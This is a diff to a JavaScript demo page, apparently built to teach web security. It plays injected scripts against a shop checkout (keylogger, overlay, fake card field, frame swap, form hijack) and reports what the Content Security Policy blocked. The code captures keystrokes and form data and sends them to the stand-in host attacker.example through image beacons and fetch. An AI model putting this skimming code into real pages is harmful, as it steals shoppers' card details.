@@ -1,6 +1,5 @@
 // Plays scripts that somebody has smuggled into the shop's own code: they may do all that the page
 // may. The panel tells what each got, and what stopped or caught it.
-const EVIL = 'https://attacker.example';
 const REQUEST_TIMEOUT_MS = 10_000;
 const pay = document.querySelector('#pay');
 const cardForm = document.querySelector('#payment');
@@ -9,17 +8,19 @@ const STAYS =
   'The browser: what is typed into a frame of another site stays there (same-origin policy).';
 const FOOLS = 'Nothing stops the page’s own code from this, and it can fool a person.';
 
-/** The directives by which the policy has refused something, each once. */
-const refused = new Set();
-/** Each attack that began tells anew what it has. */
-const tells = new Set();
-document.addEventListener('securitypolicyviolation', (event) => {
-  refused.add(event.effectiveDirective);
-  for (const tell of tells) tell();
+/** An attack's own site, by which what the policy refuses is told apart. */
+const lair = (id) => `https://${id}.attacker.example`;
+
+/** The attacks that began, each with what the policy refused it and how to tell what it has. */
+const begun = [];
+document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
+  const attack = begun.find(({ id }) => blockedURI.startsWith(lair(id)));
+  attack?.refused.add(effectiveDirective);
+  attack?.tell();
 });
 
 /** One attack's place in the panel. */
-function place(id) {
+function place(id, refused) {
   const row = document.querySelector(`[data-attack="${id}"]`);
   const results = row.querySelector('dl');
   return (got, by) => {
@@ -34,10 +35,11 @@ function place(id) {
 }
 
 /** Sends what was stolen in every way that a script has. */
-async function send(loot) {
-  new Image().src = `${EVIL}/?${encodeURIComponent(loot)}`;
+async function send(id, loot) {
+  new Image().src = `${lair(id)}/?${encodeURIComponent(loot)}`;
   const signal = AbortSignal.timeout(REQUEST_TIMEOUT_MS);
-  await fetch(EVIL, { method: 'POST', body: loot, mode: 'no-cors', signal }).catch(() => undefined);
+  const request = { method: 'POST', body: loot, mode: 'no-cors', signal };
+  await fetch(lair(id), request).catch(() => undefined);
 }
 
 const count = (number, noun) => `${number} ${noun}${number === 1 ? '' : 's'}`;
@@ -53,7 +55,7 @@ const ATTACKS = {
       (event) => {
         if (cardForm.contains(event.target)) card += 1;
         else own += 1;
-        void send(event.key);
+        void send('keylogger', event.key);
         tell();
       },
       true,
@@ -81,7 +83,7 @@ const ATTACKS = {
       ]);
     sheet.addEventListener('pointerdown', () => {
       clicks += 1;
-      void send('click');
+      void send('overlay', 'click');
       tell();
     });
     document.body.append(sheet);
@@ -106,7 +108,7 @@ const ATTACKS = {
       ]);
     };
     const steal = async (number) => {
-      await send(number);
+      await send('fake-field', number);
       // The policy leaves the shop's own server, from which it could be fetched later.
       const answer = await fetch('/orders', {
         method: 'POST',
@@ -129,7 +131,7 @@ const ATTACKS = {
   'frame-swap'(show) {
     const tell = () =>
       show('Nothing: the frame of the card form is empty now, and takes no card.', []);
-    cardForm.querySelector('iframe').src = `${EVIL}/card-form`;
+    cardForm.querySelector('iframe').src = lair('frame-swap');
     return tell;
   },
 
@@ -140,11 +142,11 @@ const ATTACKS = {
       const fields = [...new URLSearchParams(new FormData(pay))];
       loot = fields.map(([name, value]) => `${name}: ${value || 'empty'}`).join(', ');
       const copy = document.createElement('form');
-      copy.action = `${EVIL}/form`;
+      copy.action = lair('form-hijack');
       copy.method = 'post';
       document.body.append(copy);
       copy.submit();
-      void send(loot);
+      void send('form-hijack', loot);
       tell();
     };
     pay.addEventListener('submit', steal, true);
@@ -156,9 +158,10 @@ const ATTACKS = {
 function play(id) {
   if (!Object.hasOwn(ATTACKS, id)) return;
   document.querySelector(`[data-attack="${id}"] button`).disabled = true;
-  const tell = ATTACKS[id](place(id));
-  tells.add(tell);
-  tell();
+  const attack = { id, refused: new Set(), tell: () => undefined };
+  begun.push(attack);
+  attack.tell = ATTACKS[id](place(id, attack.refused));
+  attack.tell();
 }
 
 document.querySelector('.attack ul').addEventListener('click', (event) => {
